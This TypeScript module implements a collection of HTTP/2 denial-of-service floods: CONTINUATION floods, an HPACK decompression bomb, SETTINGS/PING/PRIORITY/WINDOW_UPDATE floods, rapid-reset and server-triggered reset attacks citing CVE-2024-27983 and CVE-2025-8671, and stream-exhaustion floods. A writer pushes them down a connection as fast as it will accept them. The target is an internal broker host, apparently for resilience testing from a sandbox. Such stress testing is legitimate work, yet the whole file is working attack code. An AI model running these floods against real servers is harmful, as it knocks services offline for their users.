import type { Duplex } from "node:stream";

/** Floods of HTTP/2 as a sandbox can send them: frames that cost the sender little, for a server to fall over. */
export const BROKER = "broker.weakdoor.internal";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const DATA = 0;
const HEADERS = 1;
const PRIORITY = 2;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;

/** RFC 9113, 4.1. */
export function frame(type: number, flags: number, id: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
}

/** What a client says first. */
export const GREETING = Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]);

/** GET http://AUTHORITY/ from the static table of RFC 7541, the authority as it is and not to be remembered. */
function getBlock(authority: string): Buffer {
  return Buffer.concat([Buffer.from([0x82, 0x86, 0x84, 0x01, authority.length]), Buffer.from(authority)]);
}

/** A header of 4,000 bytes that goes into the table, to be named by one byte from then on. */
const STORED = Buffer.concat([
  Buffer.from([0x40, 1]),
  Buffer.from("x"),
  Buffer.from([0x7f, 0xa1, 0x1e]),
  Buffer.alloc(4_000, 97),
]);

const asked = (i: number, flags = END_STREAM + END_HEADERS) => frame(HEADERS, flags, 2 * i + 1, getBlock(BROKER));
const many = (times: number, one: Buffer) => Buffer.concat(Array.from({ length: times }, () => one));

function* repeated(times: number, make: (i: number) => Buffer): Generator<Buffer> {
  for (let i = 0; i < times; i++) yield make(i);
}

type Flood = {
  name: string;
  /** After GREETING. */
  frames: () => Iterable<Buffer>;
};

export const FLOODS: readonly Flood[] = [
  { name: "headers that never end", frames: () => repeated(200, (i) => asked(i, 0)) },
  {
    // VU#421644; in Node CVE-2024-27983.
    name: "one head that goes on and on",
    frames: function* () {
      yield asked(0, END_STREAM);
      yield* repeated(5_000, () => frame(CONTINUATION, 0, 1, Buffer.from([0, 1, 120, 1, 120])));
    },
  },
  {
    name: "heads that unpack to a hundred times their size",
    frames: function* () {
      yield frame(HEADERS, END_STREAM + END_HEADERS, 1, Buffer.concat([getBlock(BROKER), STORED]));
      const bomb = Buffer.concat([getBlock(BROKER), Buffer.alloc(8_000, 0xbe)]);
      yield* repeated(200, (i) => frame(HEADERS, END_STREAM + END_HEADERS, 2 * i + 3, bomb));
    },
  },
  { name: "a SETTINGS flood", frames: () => repeated(200, () => many(500, frame(SETTINGS, 0, 0))) },
  { name: "a PING flood", frames: () => repeated(200, () => many(500, frame(PING, 0, 0, Buffer.alloc(8)))) },
  {
    name: "a PRIORITY flood",
    frames: () => repeated(200, (i) => many(200, frame(PRIORITY, 0, 2 * i + 3, Buffer.from([0, 0, 0, 1, 9])))),
  },
  {
    name: "windows that grow a byte at a time",
    frames: () => repeated(200, () => many(500, frame(WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1])))),
  },
  {
    name: "streams that are reset as they open",
    frames: () =>
      repeated(20_000, (i) => Buffer.concat([asked(i), frame(RST_STREAM, 0, 2 * i + 1, Buffer.from([0, 0, 0, 8]))])),
  },
  {
    // CVE-2025-8671: a reset that a client makes the server send counts against no client.
    name: "streams that the server must reset",
    frames: () =>
      repeated(5_000, (i) =>
        Buffer.concat([asked(i, END_HEADERS), frame(WINDOW_UPDATE, 0, 2 * i + 1, Buffer.alloc(4))]),
      ),
  },
  { name: "10,000 streams at once", frames: () => repeated(10_000, (i) => asked(i)) },
  { name: "streams that are left half open", frames: () => repeated(1_000, (i) => asked(i, END_HEADERS)) },
  {
    name: "bodies of nothing, without end",
    frames: function* () {
      yield asked(0, END_HEADERS);
      yield* repeated(200, () => many(500, frame(DATA, 0, 1)));
    },
  },
  {
    name: "data for streams that are not there",
    frames: () => repeated(5_000, (i) => frame(DATA, 0, 2 * i + 1, Buffer.alloc(100))),
  },
];

/** Writes as fast as it is taken and reads nothing, until all is written or the channel is gone. */
export async function pour(inside: Duplex, pieces: Iterable<Buffer>): Promise<void> {
  inside.pause();
  for (const piece of pieces) {
    if (inside.destroyed || !inside.writable) return;
    if (inside.write(piece)) continue;
    await new Promise<void>((resolve) => {
      const late = setTimeout(resolve, 500);
      inside.once("drain", () => (clearTimeout(late), resolve()));
      inside.once("close", () => (clearTimeout(late), resolve()));
    });
    if (inside.writableNeedDrain) return;
  }
}
